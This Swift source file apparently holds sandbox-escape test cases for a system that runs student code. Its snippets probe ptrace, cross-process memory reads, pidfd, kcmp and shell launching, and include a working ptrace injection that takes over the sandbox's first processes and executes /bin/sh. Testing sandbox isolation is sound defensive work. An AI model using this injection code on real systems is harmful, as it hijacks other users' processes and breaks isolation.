extension Attack {
  /// Attacks on other processes: those of other students, and those that the sandbox itself is made of.
  static let processAttacks: [Attack] = [
    within(
      "takes-over", by: ["own-processes", "system-calls"],
      ko: "격리 환경의 첫 프로세스를 빼앗아 살아남음",
      en: "takes over the sandbox's own process, unties it from the marker, and makes it a shell",
      globals: { _ in system }
    ) { _ in takeover },
    within(
      "traces", shows: "own-processes", ko: "다른 프로세스에 붙음", en: "asks to trace and to be traced",
      globals: { _ in system }
    ) { _ in "if call(number(101, 117), 0, 0, 0, 0, 0) == 0 { return escaped }" },
    within(
      "reads-memory", shows: "own-processes", ko: "프로세스의 메모리를 밖에서 읽음",
      en: "reads a process's memory from outside it",
      globals: { _ in system }
    ) { _ in
      """
      var word = 4242
      var copy = 0
      let size = MemoryLayout<Int>.size
      withUnsafeMutablePointer(to: &word) { word in
        withUnsafeMutablePointer(to: &copy) { copy in
          let from: [Int] = [Int(bitPattern: word), size]
          let to: [Int] = [Int(bitPattern: copy), size]
          from.withUnsafeBytes { from in
            to.withUnsafeBytes { to in
              _ = call(
                number(310, 270), Int(getpid()), Int(bitPattern: to.baseAddress!), 1,
                Int(bitPattern: from.baseAddress!), 1)
            }
          }
        }
      }
      if copy == word { return escaped }
      """
    },
    within(
      "process-handle", shows: "own-processes", ko: "다른 프로세스의 손잡이를 얻음",
      en: "gets hold of another process by a descriptor",
      globals: { _ in system }
    ) { ground in "if call(434, \(ground.bystander), 0, 0, 0, 0) >= 0 { return escaped }" },
    within(
      "compares", shows: "own-processes", ko: "두 프로세스의 커널 객체를 견줌",
      en: "compares what two processes hold in the kernel, which tells its addresses",
      globals: { _ in system }
    ) { _ in "if call(number(312, 272), Int(getpid()), Int(getpid()), 1, 0, 0) >= 0 { return escaped }" },
    within(
      "spies-on-others", shows: "own-processes", ko: "다른 학생의 프로세스가 있는지 알아봄",
      en: "finds out whether another student's process is there"
    ) { ground in
      """
      errno = 0
      if getpgid(\(ground.bystander)) > 0 { return escaped }
      """
    },
    within(
      "starts-shell", shows: "one-process", ko: "셸을 띄워 명령을 실행함", en: "has a shell run a command beside it",
      globals: { _ in
        """
        @_silgen_name("system") func run(_ command: UnsafePointer<CChar>) -> Int32
        """
      }
    ) { _ in #"if run("exit 7") == 7 << 8 { return escaped }"# },
  ]

  /// Attaches to each of the first processes, has it call prctl(PR_SET_PDEATHSIG, 0) and execve, and lets go.
  private static let takeover = """
    #if arch(x86_64)
      for victim in 1...4 where victim != Int(getpid()) {
        func trace(_ request: Int, _ a: Int, _ b: Int) -> Int { call(101, request, victim, a, b, 0) }
        guard trace(16, 0, 0) == 0 else { continue }
        var status: Int32 = 0
        waitpid(pid_t(victim), &status, 0x4000_0000)
        var saved = [UInt](repeating: 0, count: 27)
        _ = saved.withUnsafeMutableBytes { trace(12, 0, Int(bitPattern: $0.baseAddress!)) }
        // The two bytes before the place where it waits are the instruction of a system call.
        func make(_ number: UInt, _ a: UInt, _ b: UInt) {
          var next = saved
          (next[10], next[15], next[14], next[13], next[12]) = (number, .max, a, b, 0)
          next[16] = saved[16] - 2
          _ = next.withUnsafeMutableBytes { trace(13, 0, Int(bitPattern: $0.baseAddress!)) }
          _ = trace(9, 0, 0)
          waitpid(pid_t(victim), &status, 0x4000_0000)
        }
        let place = saved[19] - 4096
        func put(_ text: String, at offset: Int) {
          let bytes = Array(text.utf8) + [UInt8](repeating: 0, count: 16 - text.utf8.count % 8)
          for start in stride(from: 0, to: bytes.count / 8 * 8, by: 8) {
            let word = bytes[start..<start + 8].withUnsafeBytes { $0.loadUnaligned(as: Int.self) }
            _ = trace(4, Int(place) + offset + start, word)
          }
        }
        make(157, 1, 0)
        put("/bin/sh", at: 0)
        put("-c", at: 64)
        put("ulimit -t 15; while :; do :; done", at: 128)
        for (index, word) in [place, place + 64, place + 128, 0].enumerated() {
          _ = trace(4, Int(place) + 512 + 8 * index, Int(word))
        }
        make(59, place, place + 512)
        _ = trace(17, 0, 0)
        return escaped
      }
    #endif
    """
}
